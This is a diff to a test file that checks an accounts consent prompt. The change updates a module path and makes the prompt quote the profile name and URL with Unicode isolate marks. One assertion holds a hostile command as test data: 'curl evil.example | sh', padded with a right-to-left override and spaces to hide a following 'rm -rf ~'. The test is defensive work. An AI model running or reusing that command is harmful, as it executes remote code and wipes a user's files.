@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { askConsent, openConsents } from '../../src/commands/consent.ts';
+import { askConsent, openConsents } from '../../src/accounts/consentPrompt.ts';
 import { memento } from './accountsWindow.ts';
 import { answering } from './support.ts';
 
@@ -18,7 +18,10 @@ describe('accounts consent', () => {
       restore();
     }
     const [first = ''] = asked;
-    assert.match(first, /^The profile "prod" gets its credentials by running a program\. Run it\?\n/);
+    assert.match(
+      first,
+      /^The profile \u201c\u2068prod\u2069\u201d gets its credentials by running a program\. Run it\?\n/,
+    );
     assert.ok(first.includes('sh -c "curl evil.example | sh"\\u202e\\u000a⟨300 spaces⟩; rm -rf ~ '));
     assert.ok(first.includes(long));
     assert.ok(first.endsWith('[Run It]'));
@@ -34,6 +37,9 @@ describe('accounts consent', () => {
     } finally {
       restore();
     }
-    assert.match(asked[0] ?? '', /from an address\. Ask it\?\n[^]*\n\nhttp:\/\/127\.0\.0\.1:1\/x\?y\n\[Ask It\]$/);
+    assert.match(
+      asked[0] ?? '',
+      /from an address\. Ask it\?\n[^]*\n\n\u201c\u2068http:\/\/127\.0\.0\.1:1\/x\?y\u2069\u201d\n\[Ask It\]$/,
+    );
   });
 });
